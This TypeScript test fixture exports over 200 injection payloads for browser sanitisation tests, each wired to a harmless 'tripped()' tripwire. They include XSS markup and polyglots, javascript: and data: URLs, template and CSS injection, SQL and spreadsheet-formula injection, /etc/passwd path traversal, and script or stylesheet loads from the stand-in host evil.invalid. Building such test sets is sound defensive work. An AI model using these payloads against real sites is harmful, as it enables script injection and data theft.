/** What each payload would call if anything ran it; the browser tests set it to a tripwire. */
export const TRIPWIRE = 'tripped'

const T = `${TRIPWIRE}()`
const B64 = 'PHNjcmlwdD50cmlwcGVkKCk8L3NjcmlwdD4='

const HANDLERS =
  'abort afterprint animationend animationstart auxclick beforeinput beforetoggle blur canplay change click copy cut dblclick drag error focus focusin fullscreenchange hashchange input keydown load loadstart message mouseenter mouseover pageshow paste pointerenter pointerrawupdate popstate resize scroll scrollend securitypolicyviolation select toggle touchstart transitionend wheel'.split(
    ' ',
  )

const HANDLED = HANDLERS.map((name, i) => {
  const tags = ['img src=x', 'svg', 'body', 'details open', 'video src=x', 'input autofocus', 'marquee', 'a href=#']
  return `<${tags[i % tags.length]} on${name}=${T}>`
})

const MARKUP = [
  `<script>${T}</script>`,
  `<SCRIPT>${T}</SCRIPT>`,
  `<scr<script>ipt>${T}</scr</script>ipt>`,
  `<script src=//evil.invalid/x.js></script>`,
  `<script type=module>import("//evil.invalid/x.js")</script>`,
  `<script\u0000>${T}</script>`,
  `<script/x>${T}</script >`,
  `</script><script>${T}</script>`,
  `</title><script>${T}</script>`,
  `</textarea><script>${T}</script>`,
  `</style><script>${T}</script>`,
  `<!--<script>${T}</script>-->`,
  `<!--><script>${T}</script>`,
  `<![CDATA[<script>${T}</script>]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${T}</x:script>`,
  `"><img src=x onerror=${T}>`,
  `'><img src=x onerror=${T}>`,
  `\`><img src=x onerror=${T}>`,
  `" autofocus onfocus=${T} x="`,
  `' onmouseover='${T}`,
  `<img src=x onerror="&#116;ripped()">`,
  `<img src="x\`\`onerror=${T}">`,
  `<img/src/onerror=${T}>`,
  `<img src=x:x onerror\u000a=\u000a${T}>`,
  `<svg/onload=${T}>`,
  `<svg><script>${T}</script></svg>`,
  `<svg><animate onbegin=${T} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${T}"><text x=20 y=20>x</text></a>`,
  `<svg><set attributeName=href to=javascript:${T}>`,
  `<svg><foreignObject><iframe srcdoc="<script>${T}</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${T}>`,
  `<math href="javascript:${T}">x</math>`,
  `<iframe src="javascript:${T}">`,
  `<iframe srcdoc="<script>parent.${T}</script>">`,
  `<object data="javascript:${T}">`,
  `<embed src="javascript:${T}">`,
  `<form action="javascript:${T}"><button>go</button></form>`,
  `<button formaction="javascript:${T}">go</button>`,
  `<a href="javascript:${T}">soup</a>`,
  `<base href="//evil.invalid/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${T}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<link rel=stylesheet href=//evil.invalid/x.css>`,
  `<link rel=import href=data:text/html;base64,${B64}>`,
  `<template><script>${T}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${T}>">`,
  `<xss id=x tabindex=1 onfocus=${T}></xss>`,
  `<table background="javascript:${T}">`,
  `<isindex action=javascript:${T} type=image>`,
  `<portal src="javascript:${T}">`,
  `<dialog open onclose=${T}><form method=dialog><button>ok</button></form></dialog>`,
]

const ADDRESSES = [
  `javascript:${T}`,
  `JaVaScRiPt:${T}`,
  `java\u0009script:${T}`,
  `java\u000bscript:${T}`,
  `\u0001javascript:${T}`,
  `&#106;avascript:${T}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${T}`,
  `javascript://soup%0a${T}`,
  `javascript&colon;${T}`,
  `data:text/html,<script>${T}</script>`,
  `data:text/html;base64,${B64}`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${T}"/>`,
  `vbscript:msgbox(1)`,
  `[soup](javascript:${T})`,
  `![soup](x" onerror="${T})`,
  `<javascript:${T}>`,
  `//evil.invalid/%2e%2e`,
  'file:///etc/passwd',
  '../../../../etc/passwd',
  '%3Cscript%3Etripped()%3C/script%3E',
  '%253Cscript%253Etripped()%253C%252Fscript%253E',
]

const TEMPLATES = [
  `{{${T}}}`,
  `{{constructor.constructor('${T}')()}}`,
  `{{$on.constructor('${T}')()}}`,
  `\${${T}}`,
  `#{${T}}`,
  `<%= ${T} %>`,
  `{%raw%}${T}{%endraw%}`,
  `[[${T}]]`,
  `@(${T})`,
  `*{${T}}`,
  `{dangerouslySetInnerHTML:{__html:'<img src=x onerror=${T}>'}}`,
  `{"$$typeof":"react.element","type":"script","props":{"children":"${T}"}}`,
  `\`+${T}+\``,
  `';${T};//`,
  `";${T};//`,
  `\\';${T};//`,
  `-${T}-`,
  `)]}',\n${T}`,
  '%s%n%x%d',
  '$(id)',
  '`id`',
]

const STYLES = [
  '<style>*{display:none}</style>',
  '<style>@import "//evil.invalid/x.css";</style>',
  `<div style="background:url(javascript:${T})">`,
  `<div style="width:expression(${T})">`,
  '<p style="position:fixed;inset:0;z-index:9999;background:red">',
  `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=${T}>`,
  '</style><style>body{visibility:hidden}</style>',
  '*/}body{display:none}/*',
  '<style>input[value^=a]{background:url(//evil.invalid/a)}</style>',
  `<link rel="stylesheet" href="data:text/css,body{display:none}">`,
]

const ENTITIES = [
  `&lt;script&gt;${T}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${T}&amp;lt;/script&amp;gt;`,
  `&#60;script&#62;${T}&#60;/script&#62;`,
  `&#x3c;script&#x3e;${T}&#x3c;/script&#x3e;`,
  `&#0000060script>${T}`,
  `\\u003cscript\\u003e${T}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${T}\\x3c/script\\x3e`,
  `\uff1cscript\uff1e${T}\uff1c/script\uff1e`,
  `+ADw-script+AD4-${T}+ADw-/script+AD4-`,
  `¼script¾${T}¼/script¾`,
  '&#0;&#xd800;&#x110000;&nosuch;',
  '&hellip;&nbsp;&shy;&zwj;',
]

const LETTERS = [
  '\u202esoup\u202c',
  '\u2066\u2067\u2068x\u2069',
  '\u200b\u200c\u200d\u2060soup',
  '\ufeffsoup',
  '\u2028soup\u2029',
  'a\u0000b',
  '\u0001\u0007\u0008\u001b[31mred',
  '\ud83c lonely \udf55',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a',
  'İstanbul ẞ ﬀ ǆ',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  'ة بالخضار',
  '⁰⁄₀ ½⅓ Ⅳ ٣',
  '\u00ad\u00ad\u00ad',
  'soup\u0085pan',
  '＜ｓｃｒｉｐｔ＞',
]

const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'valueOf',
  '__defineGetter__',
  'then',
  'undefined',
  'null',
  'NaN',
  '[object Object]',
  'true',
  '-0',
]

const SPEECH = [
  '=cmd|calc!A1',
  '+SUM(1+1)*cmd|calc!A0',
  '@SUM(1)',
  '-2+3',
  "1'; DROP TABLE dishes; --",
  "' OR '1'='1",
  'BEGIN:VEVENT',
  '\\r\\nSet-Cookie: a=b',
  '()}</>{;:',
  '<', // alone
  '&',
  '"',
  "'",
]

const LINKED = [
  `{"@type":"Recipe","name":"</script><script>${T}</script>"}`,
  `{"@type":"Recipe","recipeIngredient":["<img src=x onerror=${T}>"]}`,
  `<script type="application/ld+json">{"@type":"Recipe","name":"<svg onload=${T}>"}</script>`,
  `{"@graph":[{"@type":"Recipe","name":"x","__proto__":{"name":"${T}"}}]}`,
  `{"@type":"Recipe","recipeInstructions":{"text":"<script>${T}</script>"}}`,
]

const POLYGLOTS = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${T} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${T}//>\\x3e`,
  `'">><marquee><img src=x onerror=${T}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${T}>`,
  `"onclick=${T}//<svg/onload=${T}>*/${T}/*`,
  `--></noscript></style></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${T}//'>`,
]

const LARGE = [
  `<b>${'x'.repeat(150)}`,
  '🍕'.repeat(60),
  'a\u0301'.repeat(80),
  '<'.repeat(120),
  '&amp;'.repeat(30),
  `${'ab '.repeat(60)}.`,
]

/** At least 200 texts, no two alike, that would run, load, hide, reverse or break something where text is taken for more than text. */
export const PAYLOADS: readonly string[] = [
  ...MARKUP,
  ...HANDLED,
  ...ADDRESSES,
  ...TEMPLATES,
  ...STYLES,
  ...ENTITIES,
  ...LETTERS,
  ...NAMES,
  ...SPEECH,
  ...LINKED,
  ...POLYGLOTS,
  ...LARGE,
]
